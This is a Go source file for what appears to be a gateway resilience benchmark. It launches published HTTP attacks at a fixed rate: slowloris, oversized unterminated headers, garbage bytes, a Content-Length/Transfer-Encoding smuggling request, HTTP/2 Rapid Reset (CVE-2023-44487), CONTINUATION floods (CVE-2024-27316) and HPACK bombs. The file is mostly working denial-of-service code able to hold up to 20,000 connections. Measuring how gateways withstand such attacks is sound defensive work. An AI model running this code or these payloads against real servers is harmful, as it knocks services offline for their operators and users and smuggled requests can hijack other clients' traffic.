//go:build linux

// Package assault attacks a gateway in the ways that were published, at a constant rate, while
// somebody else measures what honest clients have of it.
//
// It owns what an attack sends. It is a process of its own (Main), which the bench starts to run
// when nobody else wants to: an attacker on the same processor must not be what honest clients
// wait for. The sink (Drain) takes the same attack without being a gateway, which shows what of it
// is the machine's.
//
// Entry points: Kinds, Main, Drain.
//
// Concurrency: an attack has as many goroutines as it has connections that are not done with,
// mostOpen at most; all end with the time that it was given.
package assault

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Kind is a way to attack. One of it is what the rate counts.
type Kind struct {
	Name  string
	Part  string // of the work, to be asked for alone
	HTTP2 bool   // in clear text
	one   func(a *attack) error
	kept  bool // attacks follow one another on a connection, as long as the gateway lets them
	holds bool // connections are held until the attack is over
}

// Kinds are all.
var Kinds = []Kind{
	{Name: "half a head (slowloris)", Part: "slowloris", holds: true, one: func(a *attack) error { return a.hold("GET / HTTP/1.1\r\nHost: h\r\nX-A: b\r\n") }},
	{Name: "large fields without an end", Part: "endless", one: func(a *attack) error { return a.say("GET / HTTP/1.1\r\nHost: h\r\nX-A: " + large) }},
	{Name: "garbage", Part: "garbage", one: func(a *attack) error { return a.say(garbage) }},
	{Name: "smuggling", Part: "smuggling", one: func(a *attack) error { return a.say(smuggling) }},
	{Name: "Rapid Reset", Part: "reset", HTTP2: true, one: (*attack).reset, kept: true},
	{Name: "CONTINUATION without an end", Part: "continuation", HTTP2: true, one: (*attack).continuation},
	{Name: "HPACK bombs", Part: "bombs", HTTP2: true, one: (*attack).bomb, kept: true},
}

var (
	large     = strings.Repeat("x", 30<<10)
	garbage   = strings.Repeat("\x16\x03\x01\x02\x00\x01\xff\xfe", 64)
	smuggling = "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\nHost: h\r\n\r\n"
)

const (
	// mostOpen is how many connections an attack has at once: what a gateway takes by far. Beyond
	// it no more are opened, until some are closed.
	mostOpen = 20_000
	// lanes is how many connections have attacks that follow one another.
	lanes = 8
	// step is how often what is due is begun, and most how many then: attackers do not wait for
	// one another, so that they come evenly, and what one was late by does not come at once.
	step = 250 * time.Microsecond
	most = 4
	// patience is for an answer, or for being cut off.
	patience = 2 * time.Second
)

// attack is one of a kind under way, or several on one connection.
type attack struct {
	ctx    context.Context
	to     string
	conn   net.Conn
	out    *bufio.Writer
	framer *http2.Framer
	fields *hpack.Encoder
	block  bytes.Buffer
	stream uint32
}

// Main is the process: assault KIND ADDRESS RATE MILLISECONDS. It prints how many attacks it has
// made.
func Main(args []string, stdout io.Writer) error {
	if len(args) != 4 {
		return fmt.Errorf("want the number of a kind, an address, a rate and milliseconds")
	}
	kind, err := strconv.Atoi(args[0])
	rate, rateErr := strconv.Atoi(args[2])
	span, timeErr := strconv.Atoi(args[3])
	if err != nil || rateErr != nil || timeErr != nil || kind < 0 || kind >= len(Kinds) || rate < 1 {
		return fmt.Errorf("%q: want the number of a kind, an address, a rate and milliseconds", args)
	}
	ctx, cancel := context.WithTimeout(context.Background(), time.Duration(span)*time.Millisecond)
	defer cancel()
	fmt.Fprintln(stdout, run(ctx, &Kinds[kind], args[1], rate))
	return nil
}

// run attacks until ctx ends, and returns how often.
func run(ctx context.Context, k *Kind, to string, rate int) (made int) {
	var under sync.WaitGroup
	defer under.Wait()
	open := make(chan struct{}, mostOpen)
	due := make(chan struct{}, mostOpen)
	if k.kept {
		for range lanes {
			under.Go(func() { lane(ctx, k, to, due) })
		}
	}
	pace := time.NewTicker(step)
	defer pace.Stop()
	for began := time.Now(); ; {
		select {
		case <-ctx.Done():
			return made
		case <-pace.C:
		}
		wanted := min(int(time.Since(began).Seconds()*float64(rate)), made+most)
		for ; made < wanted && ctx.Err() == nil; made++ {
			if k.kept && !put(due) || !k.kept && !put(open) {
				break
			}
			if k.kept {
				continue
			}
			under.Go(func() {
				defer func() { <-open }()
				a := &attack{ctx: ctx, to: to}
				k.one(a) // its error is the gateway's defence
				a.close()
			})
		}
	}
}

// put reports whether there was room in c.
func put(c chan<- struct{}) bool {
	select {
	case c <- struct{}{}:
		return true
	default:
		return false
	}
}

// lane has attacks follow one another on a connection, and on another one when that is cut off.
func lane(ctx context.Context, k *Kind, to string, due <-chan struct{}) {
	a := &attack{ctx: ctx, to: to}
	defer func() { a.close() }()
	for {
		select {
		case <-ctx.Done():
			return
		case <-due:
		}
		if k.one(a) != nil {
			a.close()
			a = &attack{ctx: ctx, to: to}
		}
	}
}

func (a *attack) close() {
	if a.conn != nil {
		a.conn.Close()
	}
}

// dial opens a connection from one of many addresses of this machine, whose end leaves nothing
// behind: ports that wait for a minute each would soon be all.
func (a *attack) dial() error {
	from := net.IPv4(127, byte(1+rand.IntN(200)), byte(rand.IntN(250)), byte(1+rand.IntN(250)))
	d := net.Dialer{Timeout: patience, LocalAddr: &net.TCPAddr{IP: from}}
	conn, err := d.DialContext(a.ctx, "tcp", a.to)
	if err != nil {
		return err
	}
	conn.(*net.TCPConn).SetLinger(0)
	conn.SetDeadline(time.Now().Add(patience))
	a.conn = conn
	return nil
}

// hold sends the beginning of a request, and holds the connection.
func (a *attack) hold(text string) error {
	if err := a.dial(); err != nil {
		return err
	}
	if _, err := io.WriteString(a.conn, text); err != nil {
		return err
	}
	<-a.ctx.Done()
	return nil
}

// say sends something, and waits to be cut off.
func (a *attack) say(text string) error {
	if err := a.dial(); err != nil {
		return err
	}
	if _, err := io.WriteString(a.conn, text); err != nil {
		return err
	}
	_, err := io.Copy(io.Discard, a.conn)
	return err
}

// begin speaks HTTP/2.
func (a *attack) begin() error {
	if a.framer != nil {
		a.conn.SetDeadline(time.Now().Add(patience))
		return nil
	}
	if err := a.dial(); err != nil {
		return err
	}
	go io.Copy(io.Discard, a.conn) // ends with the connection
	a.out = bufio.NewWriterSize(a.conn, 16<<10)
	a.framer, a.fields, a.stream = http2.NewFramer(a.out, nil), hpack.NewEncoder(&a.block), 1
	if _, err := a.out.WriteString(http2.ClientPreface); err != nil {
		return err
	}
	return a.framer.WriteSettings()
}

// send sends what was written: together, as an attacker has better to do than to send frame by frame.
func (a *attack) send(err error) error {
	if err != nil {
		return err
	}
	return a.out.Flush()
}

// head returns the fields of a request, and more.
func (a *attack) head(more ...string) []byte {
	a.block.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":path", "/"}, {":authority", "h"}} {
		a.fields.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	for i := 0; i < len(more); i += 2 {
		a.fields.WriteField(hpack.HeaderField{Name: more[i], Value: more[i+1]})
	}
	return a.block.Bytes()
}

// request sends a field block on the next stream.
func (a *attack) request(block []byte, whole bool) (stream uint32, err error) {
	stream = a.stream
	a.stream += 2
	return stream, a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndStream: true, EndHeaders: whole})
}

// reset gives a request up at once (CVE-2023-44487).
func (a *attack) reset() error {
	if err := a.begin(); err != nil {
		return err
	}
	stream, err := a.request(a.head(), true)
	if err != nil {
		return err
	}
	return a.send(a.framer.WriteRSTStream(stream, http2.ErrCodeCancel))
}

// continuation goes on with a field block (CVE-2024-27316).
func (a *attack) continuation() error {
	if err := a.begin(); err != nil {
		return err
	}
	stream, err := a.request(a.head(), false)
	for range 100 {
		if err != nil {
			break
		}
		err = a.framer.WriteContinuation(stream, false, nil)
	}
	return a.send(err)
}

// bomb sends few octets that stand for many: a field of nearly all of the table, again and again.
func (a *attack) bomb() error {
	if err := a.begin(); err != nil {
		return err
	}
	const newest = "\xbe" // RFC 7541 §2.3.3: the entry that was made last
	_, err := a.request(append(a.head("x", large[:3900]), strings.Repeat(newest, 10_000)...), true)
	return a.send(err)
}
